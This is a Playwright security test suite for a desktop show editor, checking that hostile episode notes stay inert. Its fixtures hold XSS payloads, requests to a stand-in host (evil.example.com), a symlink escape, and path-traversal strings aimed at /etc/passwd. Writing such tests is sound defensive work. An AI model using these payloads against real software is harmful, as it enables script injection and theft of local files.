import { symlink, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { expect, test } from '@playwright/test';
import { launchEditor, type RunningEditor, temporaryFolder } from './support/app.ts';
import { episodeIsOpen, parts } from './support/editor.ts';
import { copyOfShow } from './support/show.ts';

let editor: RunningEditor;
let root: string;

test.beforeEach(async () => {
  root = await copyOfShow();
  const outside = await temporaryFolder('outside');
  await writeFile(join(outside, 'secret.png'), 'secret');
  await symlink(join(outside, 'secret.png'), join(root, 'images/way-out.png'));
  await writeFile(
    join(root, 'images/ok.svg'),
    '<svg xmlns="http://www.w3.org/2000/svg"><script>top.ran = 1</script></svg>',
  );
  await writeFile(
    join(root, '_posts/2026-10-02-5.md'),
    `---
title: "5. <img src=x onerror='top.ran=1'>"
actor_ids:
  - "<script>top.ran = 1</script>"
---

<script>top.ran = 1</script>
<img src="x" onerror="top.ran = 1">
<svg onload="top.ran = 1"></svg>
<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>
<iframe src="javascript:parent.ran=1"></iframe>
<a href="javascript:top.ran=1" id="bad">click</a>
<math><mtext><table><mglyph><style><img src=x onerror="top.ran=1"></style></mglyph></table></mtext></math>
<form action="https://evil.example.com"><button>send</button></form>
<style>@import url(https://evil.example.com/x.css);</style>
<img src="https://evil.example.com/pixel.png" alt="pixel">
<audio src="https://evil.example.com/a.mp3" autoplay></audio>
<video poster="https://evil.example.com/p.png"></video>
<link rel="stylesheet" href="https://evil.example.com/x.css">
<meta http-equiv="refresh" content="0;url=https://evil.example.com">

![dot](/images/way-out.png) ![svg](/images/ok.svg)
`,
  );
  editor = await launchEditor({ args: [join(root, '_posts/2026-10-02-5.md')] });
});
test.afterEach(() => editor.close());

test('hostile notes run nothing, request nothing and lead nowhere', async () => {
  const { page } = editor;
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await episodeIsOpen(page);
  await expect(parts.rendered(page).locator('#bad')).toHaveText('click');
  await parts
    .rendered(page)
    .locator('#bad')
    .click({ modifiers: ['ControlOrMeta'] });
  for (const tab of ['Feed item', 'Changes', 'Page'])
    await page.getByRole('button', { name: tab, exact: true }).click();
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  expect(
    asked.filter((url) => !url.startsWith('app://') && !url.startsWith('data:') && !url.startsWith('blob:')),
  ).toEqual([]);
  expect(page.url()).toBe('app://editor/index.html');
  await expect(parts.rendered(page).locator('script, iframe, form, object, embed, link, meta')).toHaveCount(0);
});

test('the page has no Node, and its bridge is the contract', async () => {
  const { page } = editor;
  const seen = await page.evaluate(() => ({
    require: 'require' in window,
    process: 'process' in window,
    bridge: Object.keys((window as unknown as { bridge: object }).bridge).sort(),
    requests: Object.keys((window as unknown as { bridge: { requests: object } }).bridge.requests).sort(),
  }));
  const { requestNames } = await import('../../shared/ipc/channels.ts');
  expect(seen).toEqual({
    require: false,
    process: false,
    bridge: ['giveMemoryBack', 'listen', 'pathOf', 'requests'],
    requests: [...requestNames].sort(),
  });
});

test('files outside of the show are not served, its own are inert', async () => {
  const { app, page } = editor;
  await episodeIsOpen(page);
  const id = await page.evaluate(async () => {
    const { requests } = (
      window as unknown as {
        bridge: { requests: Record<string, (payload: unknown) => Promise<{ show: { value: { id: string } } }>> };
      }
    ).bridge;
    return (await requests['app:start']?.({}))?.show.value.id ?? '';
  });
  await writeFile(join(root, 'audio/long.mp3'), Buffer.alloc(1000, 7));
  // Asked by the main process, which is told what a page is not: the status, and every header.
  const ask = (url: string, headers: Record<string, string> = {}) =>
    app.evaluate(
      async ({ net }, [address, sent]) => {
        const answer = await net.fetch(address, { headers: sent }).catch(() => undefined);
        const length = answer?.ok ? (await answer.arrayBuffer()).byteLength : 0;
        return {
          status: answer?.status ?? 0,
          policy: answer?.headers.get('content-security-policy'),
          sniff: answer?.headers.get('x-content-type-options'),
          range: answer?.headers.get('content-range'),
          length,
        };
      },
      [url, headers] as const,
    );
  const inert = { policy: expect.stringMatching(/^sandbox; default-src 'none'/), sniff: 'nosniff' };
  expect(await ask(`app://show-${id}/images/ok.svg`)).toMatchObject({ status: 200, ...inert });
  expect(await ask(`app://show-${id}/_posts/2026-10-02-5.md`)).toMatchObject({ status: 200, ...inert });
  for (const path of [
    'images/way-out.png',
    '..%2f..%2fetc/passwd',
    '%2e%2e/%2e%2e/etc/passwd',
    'images/%00',
    '..%5c..%5cx',
    '_posts/../../x',
    `..%2f${basename(root)}-beside%2fsecret.md`,
  ]) {
    expect((await ask(`app://show-${id}/${path}`)).status, path).toBeGreaterThanOrEqual(400);
  }
  expect((await ask('app://show-0000000000000000/_config.yml')).status).toBe(403);
  expect((await ask('app://editor/..%2fmain.js')).status).toBe(403);
  expect((await ask('app://elsewhere/index.html')).status).toBe(404);
  expect((await ask('app://editor/index.html')).policy).toContain("script-src 'self'");
  // A sound is played from its middle.
  expect(await ask(`app://show-${id}/audio/long.mp3`, { Range: 'bytes=100-199' })).toMatchObject({
    status: 206,
    range: 'bytes 100-199/1000',
    length: 100,
  });
  expect(
    await page.evaluate(() =>
      fetch('file:///etc/passwd').then(
        (answer) => answer.text(),
        () => '',
      ),
    ),
  ).toBe('');
});

test('no permission is given, no device is offered', async () => {
  const { page } = editor;
  const states = await page.evaluate(async () => {
    const names = [
      'geolocation',
      'notifications',
      'camera',
      'microphone',
      'midi',
      'clipboard-read',
    ] as PermissionName[];
    return Promise.all(names.map(async (name) => (await navigator.permissions.query({ name })).state));
  });
  expect(new Set(states)).toEqual(new Set(['denied']));
  const refused = await page.evaluate(async () => [
    await Notification.requestPermission(),
    await navigator.mediaDevices.getUserMedia({ audio: true }).then(
      () => 'given',
      () => 'denied',
    ),
    await (navigator as unknown as { usb: { requestDevice(options: object): Promise<unknown> } }).usb
      .requestDevice({ filters: [] })
      .then(
        () => 'given',
        () => 'denied',
      ),
  ]);
  expect(refused).toEqual(['denied', 'denied', 'denied']);
});

test('nothing navigates and no window opens', async () => {
  const { app, page } = editor;
  await page.evaluate(() => {
    window.open('https://evil.example.com');
    location.href = 'https://evil.example.com';
  });
  await page.waitForTimeout(300);
  expect(page.url()).toBe('app://editor/index.html');
  expect(app.windows()).toHaveLength(1);
});

test('the policy blocks eval and remote scripts', async () => {
  const { page } = editor;
  const blocked = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
    // Later: what a debugger evaluates directly is allowed to.
    setTimeout(() => {
      new Function('return 1')();
      violations.push('eval ran');
    });
    const script = document.createElement('script');
    script.src = 'https://evil.example.com/x.js';
    document.head.append(script);
    const inline = document.createElement('script');
    inline.textContent = 'window.ran = 1';
    document.head.append(inline);
    await new Promise((done) => setTimeout(done, 300));
    return violations;
  });
  expect(blocked).not.toContain('eval ran');
  expect(blocked.filter((directive) => directive.startsWith('script-src')).length).toBeGreaterThanOrEqual(3);
});
